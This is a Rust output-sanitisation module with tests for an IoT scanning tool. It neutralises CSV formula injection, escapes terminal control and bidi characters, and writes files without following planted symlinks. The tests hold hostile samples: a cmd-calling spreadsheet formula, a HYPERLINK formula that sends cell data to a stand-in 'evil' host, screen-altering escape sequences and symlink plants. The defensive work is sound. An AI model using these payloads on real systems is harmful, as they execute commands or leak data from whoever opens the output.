//! What leaves iotscope for someone else's software or staff. Much of the
//! text in reports comes from devices on the internet (banners, titles,
//! realms) and is hostile by default, so every writer of a format goes
//! through one function here:
//!
//! - [`csv_cell`]: a CSV field that a spreadsheet cannot execute (OWASP's
//!   CSV injection guidance) and that parses back to the same text;
//! - [`terminal`]: text for a terminal with every control character shown
//!   escaped (no window titles, screen clears or fake results from a banner);
//! - [`write_file`]: an output file written through a temporary file created
//!   exclusively in the target folder (random name, `O_EXCL`, no link
//!   followed), with the mode its content calls for, then renamed.

use std::borrow::Cow;
use std::io::Write;
use std::path::Path;

/// The characters that make a spreadsheet read a cell as a formula
/// (OWASP "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a carriage return.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV field (RFC 4180), neutralised for spreadsheets. A value that
/// begins with a formula character (`=`, `+`, `-`, `@`, a tab or a carriage
/// return), also after leading spaces (LibreOffice can trim them), or that
/// begins with `'`, gets one leading `'`, as OWASP's "CSV Injection" page
/// recommends, so Excel and LibreOffice show it as text instead of
/// evaluating it. Then the field is quoted when it holds a comma, a
/// semicolon or a tab (the separators spreadsheets use in other locales
/// and imports), a quote or a line break, so no part of it becomes a cell
/// of its own. Consumers that need the exact value drop the first `'` from
/// a field that begins with `'`.
///
/// Control characters other than tab, CR and LF (ESC, BEL, DEL, C1 such as
/// the one-character CSI U+009B) are written as `\xNN` / `\u{NN}`, as
/// [`terminal`] shows them: a banner's `ESC ] 0 ;` would otherwise retitle or
/// clear the terminal of whoever runs `cat` on the file, and they mean
/// nothing in a cell. Only such a cell does not read back byte for byte.
pub fn csv_cell(value: &str) -> Cow<'_, str> {
    if !value.chars().any(is_csv_control) {
        return csv_quote(value);
    }
    let mut shown = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        if is_csv_control(c) {
            push_escape(&mut shown, c);
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(csv_quote(&shown).into_owned())
}

/// Writes `c` as text: `\xNN` below U+0080, `\u{N}` above.
fn push_escape(out: &mut String, c: char) {
    use std::fmt::Write;
    let _ = if (c as u32) < 0x80 {
        write!(out, "\\x{:02x}", c as u32)
    } else {
        write!(out, "\\u{{{:x}}}", c as u32)
    };
}

/// A control character a CSV cell does not carry raw (see [`csv_cell`]).
fn is_csv_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\t' | '\n' | '\r')
}

/// [`csv_cell`] for a value without such control characters.
fn csv_quote(value: &str) -> Cow<'_, str> {
    let risky = value
        .trim_start_matches([' ', '\u{a0}'])
        .starts_with(FORMULA_START)
        || value.starts_with('\'');
    let quote = value.contains([',', ';', '\t', '"', '\n', '\r']);
    if !risky && !quote {
        return Cow::Borrowed(value);
    }
    let mut v = String::with_capacity(value.len() + 3);
    if quote {
        v.push('"');
    }
    if risky {
        v.push('\'');
    }
    for c in value.chars() {
        if c == '"' {
            v.push('"');
        }
        v.push(c);
    }
    if quote {
        v.push('"');
    }
    Cow::Owned(v)
}

/// One CSV line from fields, each through [`csv_cell`] (no line ending).
pub fn csv_line<'a>(fields: impl IntoIterator<Item = &'a str>) -> String {
    fields
        .into_iter()
        .map(csv_cell)
        .collect::<Vec<_>>()
        .join(",")
}

/// Invisible formatting characters that reorder or hide text on a
/// terminal: bidirectional embeddings, overrides and isolates (Unicode
/// TR #9), marks, zero-width characters and the BOM. A banner holding
/// U+202E can make "Boa/0.94" read backwards or a result read as another.
fn is_invisible_format(c: char) -> bool {
    matches!(c,
        '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206f}' | '\u{feff}')
}

/// Text for a terminal: every control character (C0 including tab and line
/// breaks, DEL, and C1 U+0080-U+009F, whose U+009B is a one-character CSI),
/// every invisible formatting character (bidirectional overrides and
/// isolates, zero-width characters) and every backslash is shown as an
/// escape (`\x1b`, `\u{202e}`), so what a device sent can be read but
/// never acts on the terminal. For one-line table cells and text reports;
/// JSON keeps exact values.
pub fn terminal(text: &str) -> Cow<'_, str> {
    let escaped = |c: char| c.is_control() || c == '\\' || is_invisible_format(c);
    if !text.chars().any(escaped) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            c if escaped(c) => push_escape(&mut out, c),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Who may read an exported file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Audience {
    /// Findings, alerts, addresses of subscribers, passwords: mode 0600.
    Private,
    /// Meant to be published (blocklists, advisories, anonymised shares):
    /// mode 0644.
    Public,
}

impl Audience {
    /// The file mode.
    pub fn mode(self) -> u32 {
        match self {
            Audience::Private => 0o600,
            Audience::Public => 0o644,
        }
    }
}

/// An export that could not be written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ExportError {
    /// The temporary file, its mode, its content or the rename failed.
    #[error("cannot write {path}: {source}")]
    Io {
        /// The file asked for.
        path: String,
        /// What the system said.
        source: std::io::Error,
    },
}

/// Writes `bytes` to `path` so that a reader never sees half of it and a
/// planted file cannot redirect it: the content goes to a temporary file
/// created exclusively in the same folder (random name, `O_EXCL`: a name
/// someone placed there, link or not, is never opened), gets the mode of
/// `audience` before any byte is written, is flushed to disk, and is then
/// renamed over `path` (the rename replaces a link at `path`, it does not
/// follow it).
///
/// # Errors
/// [`ExportError::Io`] naming `path`; the previous file, if any, is left.
pub fn write_file(path: &Path, bytes: &[u8], audience: Audience) -> Result<(), ExportError> {
    let err = |source| ExportError::Io {
        path: path.display().to_string(),
        source,
    };
    let dir = path
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .unwrap_or(Path::new("."));
    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("out");
    let mut tmp = tempfile::Builder::new()
        .prefix(&format!(".{name}."))
        .suffix(".tmp")
        .permissions(mode_permissions(audience))
        .tempfile_in(dir)
        .map_err(err)?;
    set_mode(tmp.as_file(), audience).map_err(err)?;
    tmp.write_all(bytes).map_err(err)?;
    tmp.as_file().sync_all().map_err(err)?;
    tmp.persist(path).map_err(|e| err(e.error))?;
    Ok(())
}

#[cfg(unix)]
fn mode_permissions(audience: Audience) -> std::fs::Permissions {
    use std::os::unix::fs::PermissionsExt;
    std::fs::Permissions::from_mode(audience.mode())
}

#[cfg(unix)]
fn set_mode(file: &std::fs::File, audience: Audience) -> std::io::Result<()> {
    // The umask may have narrowed the mode given at creation; a public
    // file must still be readable by others.
    file.set_permissions(mode_permissions(audience))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            csv_cell("=2+5+cmd|' /C calc'!A0"),
            "'=2+5+cmd|' /C calc'!A0"
        );
        assert_eq!(csv_cell("@SUM(1)"), "'@SUM(1)");
        assert_eq!(csv_cell("+1"), "'+1");
        assert_eq!(csv_cell("-1+1"), "'-1+1");
        assert_eq!(csv_cell("\tx"), "\"'\tx\"");
        assert_eq!(csv_cell("\rx"), "\"'\rx\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil/?\"&A2,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"x\"\")\""
        );
        assert_eq!(csv_cell("Boa/0.94"), "Boa/0.94");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_line(["1", "=x", "y"]), "1,'=x,y");
        // A separator of another locale, a leading space, a quote first.
        assert_eq!(csv_cell("NPort x;=1+1;"), "\"NPort x;=1+1;\"");
        assert_eq!(csv_cell("NPort x\t=1+1"), "\"NPort x\t=1+1\"");
        assert_eq!(csv_cell(" =1+1"), "' =1+1");
        assert_eq!(csv_cell("'=1+1"), "''=1+1");
        assert_eq!(csv_cell("it's"), "it's");
    }

    /// The reading back of a spreadsheet-safe CSV field.
    fn unquote(cell: &str) -> String {
        let inner = if cell.starts_with('"') && cell.ends_with('"') && cell.len() >= 2 {
            cell[1..cell.len() - 1].replace("\"\"", "\"")
        } else {
            cell.to_string()
        };
        // The documented reading: drop the first ' of a field that has one.
        match inner.strip_prefix('\'') {
            Some(rest) => rest.to_string(),
            None => inner,
        }
    }

    proptest! {
        #[test]
        fn no_cell_starts_a_formula_and_every_cell_reads_back(v in any::<String>()) {
            let c = csv_cell(&v);
            let body = c.strip_prefix('"').unwrap_or(&c);
            prop_assert!(!body.trim_start_matches([' ', '\u{a0}']).starts_with(FORMULA_START), "{:?}", c);
            // No separator of any locale outside quotes.
            prop_assert!(c.starts_with('"') || !c.contains([',', ';', '\t']), "{:?}", c);
            // Nothing a terminal would obey.
            prop_assert!(!c.chars().any(is_csv_control), "{:?}", c);
            if !v.chars().any(is_csv_control) {
                prop_assert_eq!(unquote(&c), v);
            }
        }

        #[test]
        fn formula_lookalike_values_read_back(v in "[' =+@-]{0,3}[a-z0-9;]{0,4}") {
            prop_assert_eq!(unquote(&csv_cell(&v)), v);
        }

        #[test]
        fn terminal_text_holds_no_control_character(v in any::<String>()) {
            let t = terminal(&v);
            prop_assert!(!t.chars().any(|c| c.is_control() || is_invisible_format(c)), "{:?}", t);
        }
    }

    #[test]
    fn csv_cells_show_control_characters() {
        // Quoted for the ';', the escapes shown as text.
        assert_eq!(
            csv_cell("cam\x1b]0;owned\x07\x1b[2J"),
            "\"cam\\x1b]0;owned\\x07\\x1b[2J\""
        );
        assert_eq!(csv_cell("=\u{9b}31m"), "'=\\u{9b}31m");
        assert_eq!(csv_cell("a\tb"), "\"a\tb\"");
    }

    #[test]
    fn escapes_are_shown_not_obeyed() {
        assert_eq!(
            terminal("\x1b]0;pwned\x07\x1b[2Jok\u{9b}31m"),
            "\\x1b]0;pwned\\x07\\x1b[2Jok\\u{9b}31m"
        );
        assert_eq!(terminal("Boa/0.94 カメラ"), "Boa/0.94 カメラ");
        assert_eq!(terminal("a\\x1b"), "a\\\\x1b");
        assert_eq!(terminal("Boa\u{202e}/0.94"), "Boa\\u{202e}/0.94");
        assert_eq!(terminal("a\u{2066}b\u{200b}"), "a\\u{2066}b\\u{200b}");
    }

    #[cfg(unix)]
    #[test]
    fn files_get_their_mode_and_planted_links_are_replaced_not_followed() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let victim = dir.path().join("victim");
        std::fs::write(&victim, "keep").unwrap();
        let out = dir.path().join("report.csv");
        // A link planted where the report goes, and at the old predictable
        // temporary names.
        std::os::unix::fs::symlink(&victim, &out).unwrap();
        for pid in [std::process::id(), 1, 2] {
            let _ = std::os::unix::fs::symlink(
                &victim,
                dir.path().join(format!(".report.csv.tmp-{pid}")),
            );
        }
        write_file(&out, b"ip,port\n", Audience::Private).unwrap();
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
        assert!(!std::fs::symlink_metadata(&out)
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(std::fs::read_to_string(&out).unwrap(), "ip,port\n");
        assert_eq!(
            std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
            0o600
        );
        let public = dir.path().join("zone.rpz");
        write_file(&public, b"x", Audience::Public).unwrap();
        assert_eq!(
            std::fs::metadata(&public).unwrap().permissions().mode() & 0o777,
            0o644
        );
        // No temporary file is left behind.
        let left: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
            .collect();
        assert!(left.is_empty());
    }
}
